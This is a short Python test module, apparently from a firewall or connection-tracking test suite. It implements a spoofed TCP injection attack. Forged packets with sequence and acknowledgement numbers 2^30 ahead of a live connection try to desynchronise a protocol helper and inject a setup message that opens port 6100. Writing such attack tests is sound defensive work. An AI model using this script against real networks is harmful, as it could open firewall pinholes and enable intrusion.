"""Acknowledgements and data 2^30 ahead of a connection that lives; ``seq`` and ``ack`` are where it stands.

It hopes that the helper moves its place in the stream there and is deaf for what is said before it.
"""

from __future__ import annotations

from tests.attacks import wire
from tests.attacks.packet import ACK, PSH, End, setup, tcp


def attack(
    wire_: wire.Wire,
    source: str = "172.26.83.10",
    sport: int = 554,
    target: str = "10.214.0.2",
    dport: int = 0,
    seq: int = 0,
    ack: int = 0,
    port: int = 6100,
    count: int = 5,
    rate: float = 100.0,
    seconds: float = 0.0,
) -> int:
    sent = 0
    ends = End(source, sport), End(target, dport)
    for _ in wire.pace(rate, seconds or count / rate):
        wire_.send(tcp(*ends, seq=seq, ack=ack + (1 << 30)))
        wire_.send(tcp(*ends, seq=seq + (1 << 30), ack=ack + (1 << 30), flags=ACK | PSH, data=setup(port)))
        sent += 2
    return sent


if __name__ == "__main__":
    wire.run(attack)
